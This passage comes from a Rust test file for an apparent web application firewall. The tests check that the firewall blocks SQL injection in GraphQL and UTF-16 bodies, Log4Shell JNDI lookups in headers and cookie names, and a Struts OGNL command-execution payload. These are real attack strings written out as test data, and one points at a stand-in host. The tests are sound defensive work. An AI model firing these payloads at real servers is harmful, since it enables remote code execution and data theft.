    let mut body = br#"{ user(id: "1' UNION SELECT password FROM users--") { name } } # "#.to_vec();
    body.push(0xff);
    let o = post(&c, "/graphql", "application/graphql", &body);
    assert_eq!(
        (o.verdict, o.status, o.reason.as_str()),
        (Verdict::Deny, 400, "malformed_graphql")
    );
}

#[test]
fn attacks_in_formerly_skipped_headers_and_cookie_names_are_found() {
    // H2: the same payload is denied in X-Foo; it must be in these too.
    let c = compiled("{}");
    let jndi = "${jndi:ldap://evil/a}";
    let ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}.multipart/form-data";
    assert_eq!(get(&c, "/", &[("x-foo", jndi)]).verdict, Verdict::Deny);
    let cases = [
        ("content-type", ognl),
        ("content-type", jndi),
        ("accept-language", jndi),
        ("accept-charset", jndi),
        ("traceparent", jndi),
        ("tracestate", jndi),
        ("cookie", "${jndi:ldap://x/a}=1"),
        ("cookie", "theme=dark; ${jndi:ldap://x/a}"),
    ];
    for (name, value) in cases {
        let o = get(&c, "/", &[(name, value)]);
        assert_eq!(o.verdict, Verdict::Deny, "{name}: {value}");
        let field = o.top.map(|h| h.field).unwrap_or_default();
        assert!(!field.contains("jndi"), "payload in field name: {field}");
    }
}

#[test]
fn utf16_text_without_bom_or_charset_is_decoded() {
    // L2: UTF-16LE without a BOM is NULs and ASCII to every detector unless it is sniffed.
    let c = compiled("{}");
    let text = "id=1' UNION SELECT password FROM users--";
    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let le32: Vec<u8> = text
        .chars()
        .flat_map(|ch| (ch as u32).to_le_bytes())
        .collect();
    for body in [le, be, le32] {
        let o = post(&c, "/submit", "text/plain", &body);
        assert_eq!(o.verdict, Verdict::Deny, "{body:?}");
    }
}
